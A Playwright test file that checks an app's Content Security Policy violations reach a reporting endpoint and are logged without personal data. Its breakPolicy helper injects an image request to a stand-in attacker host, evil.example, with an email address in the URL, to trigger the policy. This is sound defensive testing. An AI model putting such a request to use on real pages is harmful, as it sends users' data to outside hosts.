import type { AddressInfo } from 'node:net'
import { chromium, expect, type Page, test } from '@playwright/test'
import Fastify from 'fastify'
import { readConfig } from '#server/platform/config/config.ts'
import type { App } from '#server/platform/http/app.ts'
import { policyReportRoutes } from '#server/platform/http/policy-reports.ts'
import { addSecurity, constantHeaders } from '#server/platform/http/security.ts'
import { createLog } from '#server/platform/log.ts'
import { selfSigned } from '#tests/support/self-signed.ts'
import { findWholeChromium } from '../../scripts/lib/chromium.js'

/** Requests something that no page's content policy allows. */
async function breakPolicy(page: Page): Promise<void> {
  await page.evaluate(() => {
    const image = new Image()
    image.src = 'https://evil.example/x.png?email=ada@example.ng'
    document.body.append(image)
  })
}

test('a page of the app that breaks its policy is reported to the server', async ({ page }) => {
  await page.goto('/signin?next=ada@example.ng')
  const reported = page.waitForResponse('**/api/csp-reports')
  await breakPolicy(page)
  expect((await reported).status()).toBe(204)
})

for (const mode of ['sandbox', 'live'] as const) {
  test(`in ${mode} mode a report of the browser leaves a line that says what was stopped, and nothing else`, async () => {
    const lines: string[] = []
    const app = (mode === 'live' ? Fastify({ https: selfSigned() }) : Fastify()) as unknown as App
    const config = { ...readConfig({}), mode }
    await addSecurity(app, config, await constantHeaders(config))
    const log = createLog('warn', { write: (line: string) => void lines.push(line) })
    policyReportRoutes(app, { clock: { now: () => new Date() }, log })
    app.get('/history', async (_request, reply) => reply.type('text/html').send('<!doctype html><p>Here'))
    await app.listen({ port: 0, host: 'localhost' })
    const { port } = app.server.address() as AddressInfo

    // A browser collects live mode's reports for a minute, and sends them only to a server it trusts.
    const args = ['--no-sandbox', '--disable-gpu', '--short-reporting-delay', '--ignore-certificate-errors']
    const browser = await chromium.launch({ executablePath: findWholeChromium() ?? '/usr/bin/chromium', args })
    const page = await browser.newPage({ ignoreHTTPSErrors: true })
    await page.goto(`${mode === 'live' ? 'https' : 'http'}://localhost:${port}/history?q=ada@example.ng`)
    await breakPolicy(page)
    await expect.poll(() => lines.length).toBe(1)
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({
      directive: 'img-src',
      blocked: 'https://evil.example',
      page: '/history',
    })
    expect(lines.join('')).not.toMatch(/ada|x\.png|email/)
    await browser.close()
    await app.close()
  })
}
